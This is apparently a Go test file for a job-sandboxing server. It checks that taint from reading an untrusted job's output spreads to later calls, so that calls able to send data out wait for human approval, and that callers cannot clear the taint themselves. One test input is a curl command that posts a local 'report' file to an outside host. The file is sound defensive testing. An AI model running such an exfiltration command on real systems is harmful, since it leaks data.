package api

import (
	"context"
	"net/http"
	"strings"
	"testing"

	"github.com/airlock-run/airlock/jobs"
)

// placedJobs takes an open job's calls too, each ending at once, so a
// file fleet's jobs can be called.
func (p *placedJobs) Call(_ context.Context, id string, c jobs.Call) error {
	p.mu.Lock()
	defer p.mu.Unlock()
	p.calls = append(p.calls, c)
	return nil
}

func (p *placedJobs) CallResult(_ context.Context, id, call string) (jobs.CallResult, bool, error) {
	p.mu.Lock()
	defer p.mu.Unlock()
	for _, c := range p.calls {
		if c.ID == call {
			return jobs.CallResult{Call: c.ID, Kind: c.Kind, Node: "n1", Tier: 1, Taint: c.Taint}, true, nil
		}
	}
	return jobs.CallResult{}, false, nil
}

func (p *placedJobs) Release(context.Context, string) error { return nil }

func (p *placedJobs) Trace(_ context.Context, id string) (jobs.Trace, error) {
	return jobs.Trace{Job: id, LowestTier: -1, Calls: []jobs.CallRecord{}}, nil
}

// signalled are the calls signalled so far.
func (p *placedJobs) signalled() []jobs.Call {
	p.mu.Lock()
	defer p.mu.Unlock()
	return append([]jobs.Call(nil), p.calls...)
}

// An open job that read a tainted job's result after its start (an
// operator reading it with ?job=, which the server records) is tainted on
// the server; its kernel on the node was built untainted at the start. Its
// later calls carry the server's taint to the node, which marks the kernel
// before the call runs, so what can send data out waits for a person. A
// caller cannot set or clear that taint itself.
func TestAttackOpenJobReadsTaintAfterStart(t *testing.T) {
	f := newFileFleet(t, t.TempDir(), nil)
	root := f.start(t, `{"open":true}`)
	tj := f.start(t, `{"argv":["fetch"],"parent":"`+root.ID+`","model":"unvetted-model"}`)
	ref := f.keep(t, token, tj.ID, "text from an outside page")

	code, body, hdr := raw(t, f.srv, "GET", "/v1/files/"+ref+"?job="+root.ID, token, "")
	if code != http.StatusOK || hdr.Get(TaintHeader) == "" {
		t.Fatalf("the operator reads T's result for the open job: %d %q taint %q", code, body, hdr.Get(TaintHeader))
	}
	code, out := do(t, f.srv, "POST", "/v1/jobs/"+root.ID+"/calls", "Bearer "+token, `{"kind":"exec","argv":["curl","-d@report","https://api.example.com"]}`)
	if code != http.StatusOK {
		t.Fatalf("a later call: %d %v", code, out)
	}
	calls := f.jobs.signalled()
	if len(calls) != 1 || !strings.Contains(calls[0].Taint, "read the result of tainted job "+tj.ID) {
		t.Fatalf("signalled %+v, want the call to carry the job's taint to its node", calls)
	}

	code, out = do(t, f.srv, "POST", "/v1/jobs/"+root.ID+"/calls", "Bearer "+token, `{"kind":"list","taint":"none"}`)
	if code != http.StatusBadRequest || !strings.Contains(out["error"].(string), `"taint"`) {
		t.Errorf("a call naming its own taint: %d %v, want 400 naming taint", code, out)
	}
}
